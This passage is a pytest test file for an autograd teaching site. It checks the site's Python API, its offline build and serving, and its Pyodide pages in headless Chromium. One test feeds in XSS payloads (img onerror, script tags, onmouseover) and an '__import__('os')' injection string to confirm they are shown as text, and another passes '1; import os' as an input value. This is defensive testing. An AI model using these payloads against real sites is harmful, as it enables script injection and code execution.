"""The static site: built from the pinned packages, served on 127.0.0.1, and run in headless
Chromium with every request that is not to the local server aborted.

The pages' Python side (autograd_mini.site.page_api) is tested here on the desktop too, for
every op of the table; the browser tests then check that the page, running the same code
in Pyodide, shows the package's own numbers.  Figures (size, cold load, slider redraw)
are printed: run with ``-s`` to read them.
"""

from __future__ import annotations

import json
import math
import os
import re
import statistics
import subprocess
import sys
import threading
import time
import urllib.parse
import urllib.request
from pathlib import Path

import pytest
from conftest import graph_of_every_op, launch_chromium

from autograd_mini import PRIMITIVES, Value, draw_dot
from autograd_mini.explain.expression import parse
from autograd_mini.site import page_api
from autograd_mini.site.builder import PAGES, BuildError, build, size_of
from autograd_mini.site.server import make_server
from autograd_mini.viz import rendering
from autograd_mini.viz.steps import VIEWER

ROOT = Path(__file__).resolve().parents[1]
MAX_SITE_BYTES = 50_000_000

# README's broken swish, as the check-your-op page opens with it, and its fix.
BROKEN_SWISH_RULE = "derivative=lambda out, a: (sigmoid(a),)"
FIXED_SWISH_RULE = "derivative=lambda out, a: (sigmoid(a) + a * sigmoid(a) * (1 - sigmoid(a)),)"


def readme_swish() -> str:
    """README's swish exercise, up to its registration (the page runs the check itself)."""
    text = (ROOT / "README.md").read_text(encoding="utf-8")
    end = text.index("# forgot the product rule") + len("# forgot the product rule")
    block = text[:end].rsplit("```python", 1)[1]
    lines = [line[2:] for line in block.strip("\n").splitlines()]  # README indents by 2
    return "\n".join(lines) + "\n"


def figure(text: str) -> None:
    """A measured figure, printed for the report (``pytest -s``)."""
    sys.__stdout__.write(f"\n[site] {text}\n")


# --- The pages' Python side, on the desktop --------------------------------------------


EXPRESSIONS = [  # (expression, inputs): every function of the parser, every infix op
    ("x*x + 3*x", {"x": 2.0}),
    ("tanh(x*w + b)", {"x": 2.0, "w": -3.0, "b": 6.8813735870195432}),
    ("x/y - y/x", {"x": 1.5, "y": -0.7}),
    ("x**3 - 2*x**2", {"x": 1.3}),
    ("x**y", {"x": 1.7, "y": 0.6}),
    ("exp(-x*x/2)", {"x": 0.4}),
    ("log(x*y)", {"x": 2.0, "y": 3.5}),
    ("sigmoid(a*b - c)", {"a": 0.3, "b": -1.2, "c": 0.25}),
    ("relu(x - 1) + relu(1 - x)", {"x": 0.2}),
    ("sin(x)*cos(y)", {"x": 0.9, "y": -2.1}),
    ("sqrt(x*x + y*y)", {"x": 3.0, "y": 4.0}),
    ("abs(x - y) * x", {"x": -0.5, "y": 1.25}),
    ("softplus(x) - log(1 + exp(x))", {"x": 0.7}),
    ("neg(x) * y", {"x": 2.5, "y": -1.5}),
    ("-x + +y", {"x": 1.0, "y": 2.0}),
    ("(x + y)*(x - y)/(x*y + 1)", {"x": 0.8, "y": 0.3}),
    ("tanh(tanh(tanh(x)))", {"x": 0.6}),
    ("exp(x)*exp(-x)", {"x": 1.9}),
    ("x*x*x*x", {"x": -1.1}),
    ("sigmoid(x)*(1 - sigmoid(x))", {"x": 0.0}),
    ("log(sqrt(x)) + 2**x", {"x": 2.2}),
    ("tanh(w1*x1 + w2*x2 + b)", {"w1": 0.5, "x1": -1.0, "w2": 2.0, "x2": 0.25, "b": 0.1}),
    ("é*x + x/é", {"é": 1.5, "x": 2.0}),
]


def package_answer(expression: str, inputs: dict[str, float]) -> dict:
    """The value and input gradients, by the package on this desktop."""
    leaves: dict[str, Value] = {}
    out = parse(expression, inputs)
    stack = [out]
    while stack:  # the leaves by label (the parser labels each input by its name)
        node = stack.pop()
        if not node.parents and node.label in inputs:
            leaves[node.label] = node
        stack += node.parents
    out.backward()
    return {"value": out.data, "grads": {n: leaves[n].grad for n in inputs}}


def assert_same(answer: dict, expected: dict, rel: float = 1e-12) -> None:
    assert answer["value"] == pytest.approx(expected["value"], rel=rel, abs=1e-300)
    assert set(answer["grads"]) == set(expected["grads"])
    for name, g in expected["grads"].items():
        assert answer["grads"][name] == pytest.approx(g, rel=rel, abs=1e-15), name


@pytest.mark.parametrize("expression, inputs", EXPRESSIONS)
def test_run_gives_the_package_answer(expression, inputs):
    answer = json.loads(page_api.run(expression, json.dumps(inputs)))
    assert_same(answer, package_answer(expression, inputs), rel=0)


def test_run_reports_the_parser_hint_in_the_page_words():
    assert json.loads(page_api.run("2x", '{"x": 1}'))["error"] == \
        "2x (column 1) is not a product: write 2*x"
    assert "give it a value" in json.loads(page_api.run("x + y", '{"x": 1}'))["error"]
    assert "not a name" in json.loads(page_api.run("x", '{"<b>": 1, "x": 1}'))["error"]
    assert "finite" in json.loads(page_api.run("x", '{"x": "1; import os"}'))["error"]


def test_input_names_in_order_without_the_functions():
    assert page_api.input_names("tanh(x*w + b) + exp(x)") == ["x", "w", "b"]
    assert page_api.input_names("tanh(") == []


@pytest.mark.parametrize("name, out", list(graph_of_every_op()))
def test_quiz_accepts_right_answers_and_hints_at_wrong_ones_for_every_op(name, out):
    quiz = page_api.Playground()
    quiz.start(out)
    assert quiz.questions
    formula = PRIMITIVES[name].formula
    for qid in [f"{s}:{c}:{kind}" for (s, c, kind) in quiz.questions]:
        truth = quiz._question(qid).truth
        wrong = json.loads(quiz.answer(qid, repr(truth * 1.01 + 0.5)))
        assert not wrong["ok"]
        assert wrong["hint"]
        step = quiz.chain_rule_step(int(qid.split(":")[0]))
        if qid.endswith("local") and step.op == name:
            assert formula in wrong["hint"]  # the op table's formula, with its numbers
            assert "=" in wrong["hint"].split("Here:")[1]
        right = json.loads(quiz.answer(qid, repr(truth * (1 + 5e-4))))  # within 1e-3
        assert right["ok"], (qid, truth)
    score = quiz.score()
    assert score["done"] == score["total"] == len(quiz.questions)
    assert score["right"] == 0  # every blank took two tries


def test_quiz_works_for_an_op_the_student_registers(register_op):
    from autograd_mini.core.ops import Primitive

    register_op(Primitive("cube", "³", value=lambda a: a ** 3,
                          derivative=lambda out, a: (3.0 * a * a,)))
    quiz = page_api.Playground()
    assert "error" not in json.loads(quiz.load("cube(x) + x", '{"x": 2}'))
    qid = next(f"{s}:{c}:{k}" for s, c, k in quiz.questions
               if quiz.chain_rule_step(s).op == "cube" and k == "local")
    hint = json.loads(quiz.answer(qid, "5"))["hint"]
    assert "The rule of cube: d/da cube(a) = 3 * a * a" in hint and "x = 2" in hint
    assert json.loads(quiz.answer(qid, "12"))["ok"]


def test_quiz_reads_answers_as_arithmetic_and_a_typo_is_not_an_attempt():
    quiz = page_api.Playground()
    json.loads(quiz.load("tanh(x)", '{"x": 0.5}'))
    qid = next(f"{s}:{c}:{k}" for (s, c, k) in quiz.questions if k == "local")
    typo = json.loads(quiz.answer(qid, "1 - tanh(0.5)**"))
    assert not typo["ok"] and typo["error"]
    assert quiz._question(qid).attempts == 0
    assert json.loads(quiz.answer(qid, "1 - tanh(0.5)**2"))["ok"]
    assert quiz.score()["right"] == 1


def test_quiz_hides_a_steps_numbers_until_its_blanks_are_done():
    quiz = page_api.Playground()
    quiz.load("x*y", '{"x": 2, "y": 3}')
    last = len(quiz.steps) - 1
    hidden = json.loads(quiz.frame(last, quiz=True))
    assert hidden["lines"] == ["Upstream gradient ∂out/∂out = 1"] and not hidden["formula"]
    assert "grad 3" not in hidden["svg"]  # x's gradient not drawn yet
    for qid in [q["id"] for q in hidden["questions"]]:
        quiz.show(qid)
    shown = json.loads(quiz.frame(last, quiz=True))
    assert "grad 3" in shown["svg"] and len(shown["lines"]) > 1
    assert shown["score"] == {"right": 0, "total": 4, "done": 4}


def test_check_op_fails_readmes_broken_swish_and_passes_the_fixed_one():
    broken = json.loads(page_api.check_op(readme_swish()))
    assert not broken["ok"]
    (swish,) = broken["ops"]
    assert swish["formula"] == "d/da swish(a) = sigmoid(a)"
    assert "<svg" in swish["svg"]
    # one verdict, counted from the rows of the one table (no second report to disagree)
    wrong = [row for row in swish["rows"] if row[-1] == "WRONG"]
    assert len(wrong) == len(swish["rows"]) == 2
    assert swish["summary"] == "gradcheck fails: 2 of 2 rows WRONG" and swish["message"] == ""
    fixed = json.loads(page_api.check_op(readme_swish().replace(BROKEN_SWISH_RULE,
                                                               FIXED_SWISH_RULE)))
    assert fixed["ok"], fixed
    assert fixed["ops"][0]["summary"] == "gradcheck passes: all 2 rows ok"
    assert "swish" not in page_api._BUILT_IN  # the table is restored before each run


def test_check_op_says_what_went_wrong():
    assert "SyntaxError" in json.loads(page_api.check_op("def ("))["error"]
    assert "registered no op" in json.loads(page_api.check_op("x = 1"))["error"]
    assert "ZeroDivisionError" in json.loads(page_api.check_op("1/0"))["error"]


# --- The rendering seam in a browser (Pyodide faked on the desktop) ----------------------


class FakeWasmGraphviz:
    def __init__(self):
        self.calls = []

    def layout(self, source, format, engine):
        self.calls.append((format, engine))
        return f"<svg><!-- {len(source)} --></svg>"


@pytest.fixture
def in_a_browser(monkeypatch):
    """sys.platform as Pyodide has it, and a ``js`` module with the page's globals."""
    import types

    page = types.SimpleNamespace(globalThis=types.SimpleNamespace())
    monkeypatch.setattr(sys, "platform", "emscripten")
    monkeypatch.setitem(sys.modules, "js", page)
    monkeypatch.setattr(rendering.shutil, "which", lambda name: None)  # no `dot` there
    return page.globalThis


def test_in_a_browser_pictures_are_drawn_by_wasm_graphviz(in_a_browser):
    wasm = FakeWasmGraphviz()
    setattr(in_a_browser, rendering.BROWSER_GRAPHVIZ, wasm)
    x = Value(2.0, label="x")
    y = x * x
    y.backward()
    assert draw_dot(y).pipe(format="svg").startswith(b"<svg>")  # draw_dot, unpatched
    assert draw_dot(y)._repr_image_svg_xml().startswith("<svg>")  # shown in a notebook
    assert wasm.calls == [("svg", "dot"), ("svg", "dot")]
    with pytest.raises(rendering.GraphvizError, match="SVG only"):
        rendering.render("digraph {}", "png")


def test_in_a_browser_without_wasm_graphviz_the_error_says_how_to_load_it(in_a_browser):
    with pytest.raises(rendering.GraphvizNotFound, match="use_wasm_graphviz"):
        rendering.render("digraph {}", "svg")


# --- Building and serving -----------------------------------------------------------------


def test_build_refuses_a_folder_with_files_and_names_a_missing_npm(tmp_path, monkeypatch):
    (tmp_path / "mine.txt").write_text("keep me")
    with pytest.raises(BuildError, match="not an empty folder"):
        build(tmp_path)
    assert (tmp_path / "mine.txt").read_text() == "keep me"
    monkeypatch.setenv("PATH", str(tmp_path / "no-programs-here"))
    with pytest.raises(BuildError, match="npm is needed"):
        build(tmp_path / "site", cache=tmp_path / "empty-cache")


def test_build_without_the_network_says_so(tmp_path, monkeypatch):
    if not __import__("shutil").which("npm"):
        pytest.skip("npm is not installed")
    # An npm and a pip that can reach nothing (a closed port on this machine).
    monkeypatch.setenv("npm_config_registry", "http://127.0.0.1:9/")
    monkeypatch.setenv("npm_config_fetch_retries", "0")
    monkeypatch.setenv("npm_config_cache", str(tmp_path / "npm-cache"))
    with pytest.raises(BuildError, match="is the network reachable"):
        build(tmp_path / "site", cache=tmp_path / "empty-cache")
    assert not (tmp_path / "site").exists()


def test_cli_site_errors_are_one_line(tmp_path):
    command = [sys.executable, "-m", "autograd_mini", "site", "serve", str(tmp_path)]
    result = subprocess.run(command, capture_output=True, text=True, cwd=ROOT,
                            env={**os.environ, "PYTHONPATH": str(ROOT)})
    assert result.returncode == 2
    assert result.stderr.count("\n") == 1 and "no built site" in result.stderr


# --- The site in headless Chromium, offline -------------------------------------------------


def wait_until(page, expression: str, timeout: float = 30.0) -> None:
    """Wait until ``expression`` is true in the page, asked from outside it: Playwright's
    own wait_for_function evaluates a string inside the page, which the site's
    Content-Security-Policy refuses (no eval), as it should."""
    deadline = time.monotonic() + timeout
    while not page.evaluate(expression):
        if time.monotonic() > deadline:
            raise AssertionError(f"not true within {timeout:g} s: {expression}")
        time.sleep(0.05)


@pytest.fixture(scope="session")
def site(tmp_path_factory):
    """The site, built once for the session (npm and pip fill a cache the first time)."""
    if not __import__("shutil").which("npm"):
        pytest.skip("npm is not installed (the site's browser assets come from npm)")
    out = tmp_path_factory.mktemp("site") / "site"
    started = time.perf_counter()
    command = [sys.executable, "-m", "autograd_mini", "site", "build", str(out)]
    result = subprocess.run(command, capture_output=True, text=True, cwd=ROOT,
                            env={**os.environ, "PYTHONPATH": str(ROOT)})
    assert result.returncode == 0, result.stderr
    assert result.stdout.startswith("wrote the site to ")
    figure(f"site built in {time.perf_counter() - started:.1f} s: "
           f"{size_of(out) / 1e6:.1f} MB in {sum(1 for p in out.rglob('*') if p.is_file())} files")
    return out


@pytest.fixture(scope="session")
def server(site):
    """The site served on 127.0.0.1 for the session; yields its address."""
    httpd = make_server(site, 0)
    thread = threading.Thread(target=httpd.serve_forever, daemon=True)
    thread.start()
    yield f"http://127.0.0.1:{httpd.server_address[1]}"
    httpd.shutdown()
    httpd.server_close()


@pytest.fixture(scope="session")
def offline_browser(playwright):
    """Chromium that resolves no host but 127.0.0.1."""
    chromium = launch_chromium(playwright,
                               "--host-resolver-rules=MAP * ~NOTFOUND, EXCLUDE 127.0.0.1")
    yield chromium
    chromium.close()


class Tab:
    """A page of the site in a fresh context: every non-local request aborted and
    recorded, every console message and page error recorded."""

    def __init__(self, chromium, server: str, path: str, width: int = 1000, height: int = 700):
        self.context = chromium.new_context(viewport={"width": width, "height": height})
        self.blocked: list[str] = []
        self.console: list[str] = []
        self.context.route("**/*", self._route(server))
        self.page = self.context.new_page()
        self.page.on("console", lambda m: self.console.append(f"{m.type}: {m.text}"))
        self.page.on("pageerror", lambda e: self.console.append(f"pageerror: {e}"))
        self.page.on("dialog", lambda d: (self.console.append(f"dialog: {d.message}"),
                                          d.dismiss()))
        started = time.perf_counter()
        self.page.goto(f"{server}/{path}")
        self.page.evaluate("() => window.autograd_mini.ready.then(() => true)")
        self.page.evaluate("() => window.autograd_mini.opened.then(() => true)")
        self.load_seconds = time.perf_counter() - started

    def _route(self, server: str):
        def route(r):
            if r.request.url.startswith(server + "/"):
                return r.continue_()
            self.blocked.append(r.request.url)
            return r.abort()
        return route

    def close(self) -> None:
        """Close, after checking the console stayed clean and nothing left the machine."""
        problems = [m for m in self.console if not m.startswith(("log:", "info:", "debug:"))]
        self.context.close()
        assert problems == [], problems
        assert self.blocked == [], self.blocked


@pytest.fixture
def open_tab(offline_browser, server):
    tabs: list[Tab] = []

    def opener(path: str = "index.html", **size) -> Tab:
        tabs.append(Tab(offline_browser, server, path, **size))
        return tabs[-1]

    yield opener
    for tab in tabs:
        tab.close()


@pytest.mark.browser
def test_the_site_is_small_and_names_its_pinned_versions(site):
    size = size_of(site)
    assert size <= MAX_SITE_BYTES
    config = json.loads((site / "site.json").read_text())
    assert config["versions"] == {"pyodide": "314.0.7", "@hpcc-js/wasm-graphviz": "1.29.2",
                                  "katex": "0.19.1"}
    for wheel in config["wheels"]:
        assert (site / wheel).is_file()
    for page in ("index.html", "check.html", "engine.js", "vendor/pyodide/pyodide.asm.wasm",
                 "vendor/graphviz/index.js"):
        assert (site / page).is_file(), page
    pages = "".join(p.read_text() for p in site.glob("*.*"))
    assert re.findall(r"https?://", pages) == []  # our pages name no other address


@pytest.mark.browser
def test_the_playground_loads_the_one_step_viewer(open_tab, site):
    assert (site / "stepviewer.js").read_bytes() == VIEWER.read_bytes()
    loaded = open_tab().page.evaluate(
        "performance.getEntriesByType('resource').map((entry) => entry.name)")
    assert [url.rsplit("/", 1)[1] for url in loaded].count("stepviewer.js") == 1


@pytest.mark.browser
def test_serve_command_serves_the_site_on_localhost(site):
    command = [sys.executable, "-m", "autograd_mini", "site", "serve", str(site), "--port", "0"]
    server = subprocess.Popen(command, stdout=subprocess.PIPE, text=True, cwd=ROOT,
                              env={**os.environ, "PYTHONPATH": str(ROOT)})
    try:
        line = server.stdout.readline()
        address = re.search(r"http://127\.0\.0\.1:\d+/", line).group()
        with urllib.request.urlopen(address + "vendor/pyodide/pyodide.asm.wasm") as response:
            assert response.headers["Content-Type"] == "application/wasm"
            assert response.read(4) == b"\0asm"
        with urllib.request.urlopen(address) as response:
            assert b"autograd_mini playground" in response.read()
    finally:
        server.terminate()
        server.wait(timeout=10)


@pytest.mark.browser
@pytest.mark.slow
def test_cold_load_to_ready(open_tab):
    tab = open_tab()
    figure(f"cold load to ready: {tab.load_seconds:.2f} s "
           f"(engine {tab.page.evaluate('autograd_mini.loadSeconds'):.2f} s)")
    assert tab.load_seconds <= 30  # 10 s is the aim; 30 leaves room for a busy machine


@pytest.mark.browser
@pytest.mark.slow
def test_run_api_on_every_page(open_tab):
    for path in ("index.html", "check.html"):
        tab = open_tab(path)
        answer = tab.page.evaluate("autograd_mini.run('x*w + b', {x: 2, w: -3, b: 1})")
        assert answer == {"value": -5, "grads": {"x": -3, "w": 2, "b": 1}}
        error = tab.page.evaluate(
            "autograd_mini.run('x^2', {x: 1}).then(() => '', (e) => e.message)")
        assert error == "^ (column 2) is not a power: use ** for powers: x**2"


@pytest.mark.browser
def test_draw_dot_and_the_step_frames_work_in_pyodide_unpatched(open_tab):
    page = open_tab().page
    result = page.evaluate("""async () => JSON.parse(await autograd_mini.python(`
import json, shutil, sys
from autograd_mini import Value, draw_dot
from autograd_mini.viz.steps import steps_html
x = Value(3.0, label="x<&>")
y = (x * x).tanh()
y.backward()
json.dumps({"platform": sys.platform, "dot": shutil.which("dot"),
            "repr": draw_dot(y)._repr_image_svg_xml(),
            "pictures": steps_html(y).count(chr(92) + "u003csvg"),  # layouts in its JSON
            "frames": steps_html(y).count('"active": ')})  # one a frame
`))""")
    assert result["platform"] == "emscripten" and result["dot"] is None
    assert "<svg" in result["repr"] and "x&lt;&amp;&gt;" in result["repr"]  # a label as text
    assert result["pictures"] == 2  # laid out once each way (wide, tall); frames repaint it
    assert result["frames"] == 6  # x, x*x, tanh; the seed; two backward steps


def slide(page, name: str, values: list[float]) -> list[float]:
    """Move the slider of input ``name`` through ``values``, a frame apart; the time each
    redraw took in the page (ms)."""
    return page.evaluate("""async ([name, values]) => {
        const slider = document.querySelector(`input[aria-label="${name} slider"]`);
        const times = [];
        for (const value of values) {
            slider.value = String(value);
            slider.dispatchEvent(new Event('input', {bubbles: true}));
            await window.autograd_mini.playground.settled();
            times.push(window.autograd_mini.lastRedrawMs);
            await new Promise((r) => requestAnimationFrame(r));
        }
        return times;
    }""", [name, values])


def type_expression(page, expression: str, inputs: dict[str, float]) -> dict:
    """Type the expression and each input's number into the playground, as a student
    would; returns what the page computed."""
    page.fill("#expression", expression)
    settle(page)
    for name, number in inputs.items():
        page.get_by_label(f"{name} value", exact=True).fill(repr(number))
    return settled(page)


def settle(page) -> None:
    """Wait until the playground has drawn what was asked of it (clicks, typing)."""
    page.evaluate("autograd_mini.playground.settled().then(() => true)")


def press_check(page) -> None:
    """Press Check on the "check your op" page and wait for its verdict."""
    page.evaluate("window.autograd_mini.lastCheck = undefined")
    page.click("#check")
    wait_until(page, "window.autograd_mini.lastCheck !== undefined")


def settled(page) -> dict:
    """What the playground shows once the redraws asked for are drawn (the engine works in
    its own thread: a redraw ends after the event that asked for it)."""
    return page.evaluate("autograd_mini.playground.settled()"
                         ".then(() => autograd_mini.playground.state.result)")


@pytest.mark.browser
@pytest.mark.slow
def test_expressions_typed_into_the_playground_give_the_packages_numbers(open_tab):
    page = open_tab().page
    assert len(EXPRESSIONS) >= 20
    for expression, inputs in EXPRESSIONS:
        shown = type_expression(page, expression, inputs)
        assert "error" not in shown, (expression, shown)
        assert_same(shown, package_answer(expression, inputs))
        assert page.locator("#value").text_content() != ""
    assert page.locator("#graph svg").count() == 1


def chain(links: int) -> tuple[str, int]:
    """``tanh(...tanh(x*w + b)...*w + b)``: three Values a link, plus the three inputs."""
    expression = "x"
    for _ in range(links):
        expression = f"tanh({expression}*w + b)"
    return expression, 3 * links + 3


@pytest.mark.browser
@pytest.mark.slow
def test_slider_redraw_latency_for_a_fifty_node_graph(open_tab):
    expression, values = chain(16)
    assert values >= 50
    page = open_tab().page
    type_expression(page, expression, {"x": 0.5, "w": 0.9, "b": 0.1})
    timings = slide(page, "w", [-2 + i * 0.15 for i in range(25)])
    figure(f"slider redraw, {values} Values: median {statistics.median(timings):.1f} ms, "
           f"max {max(timings):.1f} ms over {len(timings)} moves")
    assert page.locator("#graph svg").count() == 1
    w = page.get_by_label("w value", exact=True).input_value()
    assert float(w) == pytest.approx(-2 + 24 * 0.15)
    assert_same(settled(page),
                package_answer(expression, {"x": 0.5, "w": float(w), "b": 0.1}))


def quiz_truths(expression: str, inputs: dict[str, float]) -> dict[str, float]:
    """Each quiz blank's answer, by the package on the desktop."""
    quiz = page_api.Playground()
    quiz.load(expression, json.dumps(inputs))
    return {f"{s}:{c}:{k}": q.truth for (s, c, k), q in quiz.questions.items()}


@pytest.mark.browser
@pytest.mark.slow
def test_quiz_accepts_right_answers_rejects_wrong_ones_with_a_hint_and_scores(open_tab):
    page = open_tab().page
    inputs = {"x": 2.0, "w": -3.0, "b": 6.8814}
    type_expression(page, "tanh(x*w + b)", inputs)
    truths = quiz_truths("tanh(x*w + b)", inputs)
    page.check("#quiz-mode")
    settle(page)
    wrong_once = False
    while True:
        blanks = page.locator("#quiz fieldset")
        for i in range(blanks.count()):
            blank = blanks.nth(i)
            qid = blank.get_attribute("data-question")
            if not wrong_once:  # one wrong answer: a hint from the op's formula
                blank.locator("input").fill("12345")
                blank.get_by_role("button", name="Check").click()
                settle(page)
                hint = blank.locator(".feedback").text_content()
                assert "The rule of tanh: d/da tanh(a) = " in hint and "out = " in hint
                assert page.locator("#next").is_disabled()
                wrong_once = True
            blank = page.locator(f'fieldset[data-question="{qid}"]')
            blank.locator("input").fill(repr(truths[qid]))
            blank.get_by_role("button", name="Check").click()
            settle(page)
            assert page.locator(f'fieldset[data-question="{qid}"] .feedback').text_content() \
                .startswith("right")
        if page.locator("#next").is_disabled():
            break
        page.click("#next")
        settle(page)
    score = page.locator("#score").text_content()
    assert score == f"Score: {len(truths) - 1} of {len(truths)} right at the first try"


@pytest.mark.browser
def test_a_typed_quiz_answer_and_its_hint_survive_turning_the_phone(open_tab):
    """Across the 700 px breakpoint the page draws the step again (the graph turns from
    top-down to left-right): what the student typed and the hint it got stay."""
    page = open_tab(width=390, height=844).page
    page.check("#quiz-mode")
    settle(page)
    while page.locator("#quiz fieldset").count() < 2:
        page.click("#next")
        settle(page)
    first, second = page.locator("#quiz fieldset").nth(0), page.locator("#quiz fieldset").nth(1)
    first.locator("input").fill("12345")
    first.get_by_role("button", name="Check").click()
    settle(page)
    hint = first.locator(".feedback").text_content()
    assert hint.startswith("The rule of ")
    second.locator("input").fill("0.5 *")  # typed, not checked yet
    page.evaluate("document.querySelector('#quiz fieldset').dataset.before = 'turn'")
    page.set_viewport_size({"width": 844, "height": 390})
    wait_until(page, "!document.querySelector('#quiz fieldset').dataset.before")  # drawn again
    first, second = page.locator("#quiz fieldset").nth(0), page.locator("#quiz fieldset").nth(1)
    assert first.locator("input").input_value() == "12345"
    assert first.locator(".feedback").text_content() == hint
    assert "wrong" in first.locator(".feedback").get_attribute("class")
    assert second.locator("input").input_value() == "0.5 *"
    assert second.locator(".feedback").text_content() == ""


@pytest.mark.browser
@pytest.mark.slow
def test_check_your_op_fails_the_broken_swish_and_passes_the_fixed_one(open_tab):
    page = open_tab("check.html").page
    wait_until(page, "window.autograd_mini.lastCheck !== undefined")
    assert page.locator("#code").input_value() == readme_swish()
    assert page.locator("#verdict").text_content() == "✗ not yet"
    report = page.locator('section[data-op="swish"]')
    assert "d/da swish(a) = sigmoid(a)" in report.text_content()
    assert report.locator("td.wrong").count() >= 1 and report.locator("svg").count() == 1
    page.fill("#code", readme_swish().replace(BROKEN_SWISH_RULE, FIXED_SWISH_RULE))
    press_check(page)
    assert page.locator("#verdict").text_content().startswith("✓")
    assert "sigmoid(a) + a * sigmoid(a) * (1 - sigmoid(a))" in report.text_content()
    assert report.locator("td.wrong").count() == 0


@pytest.mark.browser
def test_check_your_op_on_a_phone_shows_every_line_the_whole_table_and_one_verdict(open_tab):
    page = open_tab("check.html", width=390, height=844).page
    wait_until(page, "window.autograd_mini.lastCheck !== undefined")
    editor = page.locator("#code")
    # the editor wraps: the rule to fix is in view, no line runs out of the box
    assert editor.evaluate("e => e.scrollWidth <= e.clientWidth")
    assert editor.evaluate("e => getComputedStyle(e).whiteSpace") == "pre-wrap"
    assert editor.evaluate("e => e.scrollHeight <= e.clientHeight")  # and no line below it
    # the table fits the screen, WRONG column included, and the page does not scroll sideways
    assert page.evaluate("document.documentElement.scrollWidth") <= 390
    report = page.locator('section[data-op="swish"]')
    table = report.locator("table.check")
    assert table.evaluate("t => t.parentElement.scrollWidth <= t.parentElement.clientWidth")
    cells = report.locator("td.wrong")
    assert cells.count() == 2
    for k in range(cells.count()):
        box = cells.nth(k).bounding_box()
        assert box["x"] >= 0 and box["x"] + box["width"] <= 390
    # one verdict for the op, and it counts the table's own rows
    assert report.locator("h2").all_inner_texts() == ["swish: gradcheck fails: 2 of 2 rows WRONG"]
    assert "failed for" not in report.inner_text() and report.locator("pre.error").count() == 0


@pytest.mark.browser
@pytest.mark.slow
def test_at_phone_width_every_control_is_reachable_and_the_active_node_visible(open_tab):
    page = open_tab(width=390, height=844).page
    assert page.evaluate("document.documentElement.scrollWidth") <= 390
    # every control shown (the network mode's are hidden until it is chosen)
    controls = page.locator("main input:visible, main button:visible, main textarea:visible, "
                            "main select:visible, nav a")
    for i in range(controls.count()):
        control = controls.nth(i)
        control.scroll_into_view_if_needed()
        box = control.bounding_box()
        assert box and box["width"] > 0 and 0 <= box["y"] and box["y"] + box["height"] <= 844
        hit = page.evaluate("([x, y]) => document.elementFromPoint(x, y)?.closest("
                            "'input, button, textarea, a, label') !== null",
                            [box["x"] + box["width"] / 2, box["y"] + box["height"] / 2])
        assert hit, control.evaluate("e => e.outerHTML")
    page.click("#previous")
    settle(page)
    for _ in range(8):  # back through the backward pass and into the forward pass
        page.click("#previous")
        settle(page)
        assert_active_node_visible(page, 390, 844)
    svg = page.locator("#graph svg").bounding_box()
    assert svg["height"] > svg["width"]  # top to bottom at phone width
    check = open_tab("check.html", width=390, height=844).page
    wait_until(check, "window.autograd_mini.lastCheck !== undefined")
    assert check.evaluate("document.documentElement.scrollWidth") <= 390
    check.locator("#check").scroll_into_view_if_needed()
    press_check(check)


def assert_active_node_visible(page, width: int, height: int) -> None:
    page.locator("#graph").scroll_into_view_if_needed()
    node = page.locator("#graph g.node.active").bounding_box()
    view = page.locator("#graph").bounding_box()
    centre_x, centre_y = node["x"] + node["width"] / 2, node["y"] + node["height"] / 2
    assert view["x"] <= centre_x <= view["x"] + view["width"]
    assert view["y"] <= centre_y <= view["y"] + view["height"]
    assert 0 <= centre_x <= width and 0 <= centre_y <= height


@pytest.mark.browser
def test_hostile_expressions_and_link_labels_are_shown_as_text(open_tab, server):
    tab = open_tab()
    page = tab.page
    page.fill("#expression", '<img src=x onerror="window.pwned=1">')
    settle(page)
    assert "not a valid expression" in page.locator("#expression-error").text_content()
    page.fill("#expression", "x</text><script>window.pwned=1</script>")
    settle(page)
    assert page.locator("#expression-error").text_content().startswith("not a valid")
    # A link is anyone's text: the expression is parsed, never run; odd names are ignored.
    fragment = urllib.parse.urlencode({
        "e": "tanh(x) + __import__('os')", "at": "<b onmouseover=alert(1)>:1,x:2"})
    page.goto(f"{server}/index.html#{fragment}")
    page.evaluate("() => window.autograd_mini.ready.then(() => true)")
    wait_until(page, "document.querySelector('#expression-error').textContent !== ''")
    assert "__import__" in page.locator("#expression").input_value()
    assert page.locator("#expression-error").text_content()
    assert page.locator("main b, main img, main script").count() == 0
    assert page.evaluate("window.pwned") is None


@pytest.mark.browser
@pytest.mark.slow
def test_share_link_reproduces_the_page(open_tab, server):
    page = open_tab().page
    type_expression(page, "x*y + exp(y)", {"x": 1.25, "y": -0.5})
    page.click("#previous")
    settle(page)
    page.click("#share")
    link = page.locator("#share-link").input_value()
    fragment = urllib.parse.parse_qs(urllib.parse.urlsplit(link).fragment)
    assert fragment == {"e": ["x*y + exp(y)"], "at": ["x:1.25,y:-0.5"], "step": ["7"]}
    other = open_tab().page
    other.goto(link)
    other.evaluate("() => window.autograd_mini.ready.then(() => true)")
    wait_until(other, "window.autograd_mini.playground?.state.result !== undefined")
    assert other.locator("#expression").input_value() == "x*y + exp(y)"
    assert_same(other.evaluate("autograd_mini.playground.state.result"),
                package_answer("x*y + exp(y)", {"x": 1.25, "y": -0.5}))
    assert other.locator("#step-title").text_content() == \
        page.locator("#step-title").text_content()


@pytest.mark.browser
@pytest.mark.slow
def test_screenshots_desktop_and_phone(open_tab, tmp_path):
    """The playground and its quiz at desktop and phone size, written to the folder
    $AUTOGRAD_MINI_SCREENSHOTS (to look at them) or a temporary one."""
    folder = Path(os.environ.get("AUTOGRAD_MINI_SCREENSHOTS") or tmp_path)
    folder.mkdir(parents=True, exist_ok=True)
    for width, height in ((1000, 700), (390, 844)):
        page = open_tab(width=width, height=height).page
        page.screenshot(path=folder / f"playground-{width}.png")
        page.check("#quiz-mode")
        settle(page)
        for _ in range(7):
            page.click("#next")
            settle(page)
        page.locator("#quiz input").first.fill("1")
        page.locator("#quiz button", has_text="Check").first.click()
        settle(page)
        page.screenshot(path=folder / f"quiz-{width}.png")
        assert (folder / f"quiz-{width}.png").stat().st_size > 10_000
    figure(f"screenshots in {folder}")


def test_the_fixture_expressions_cover_every_function_of_the_parser():
    from autograd_mini.explain.expression import functions

    used = " ".join(e for e, _ in EXPRESSIONS)
    assert all(re.search(rf"\b{name}\(", used) for name in functions())
    assert math.isfinite(package_answer("x", {"x": 1.0})["value"])


@pytest.mark.browser
def test_a_page_opened_from_disk_says_how_to_open_it(offline_browser, site):
    context = offline_browser.new_context()
    page = context.new_page()
    for name in ("index.html", "check.html"):
        page.goto((site / name).as_uri())
        assert "autograd-mini site serve" in page.locator("#status").text_content()
        page.goto((site / name).as_uri() + "?lang=ko")
        assert page.locator("#status").text_content() == (
